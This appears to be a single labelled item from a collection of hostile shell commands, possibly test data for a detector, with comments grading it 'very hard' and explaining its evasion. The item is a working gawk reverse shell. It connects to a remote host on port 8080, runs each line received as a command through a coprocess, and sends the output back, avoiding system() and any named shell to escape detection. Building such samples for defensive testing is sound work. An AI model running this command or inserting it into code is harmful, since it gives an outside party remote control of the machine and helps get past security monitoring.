# evasion: gawk opens /inet/tcp itself and runs each received line as a two-way coprocess (|&): no system(), no shell named
# grade: very hard; does: shell
gawk 'BEGIN {
	s = "/inet/tcp/0/203.0.113.68/8080"
	while (1) {
		printf "> " |& s
		if ((s |& getline c) <= 0) break
		while (c && (c |& getline out) > 0) print out |& s
		close(c)
	}
	close(s)
}' /dev/null
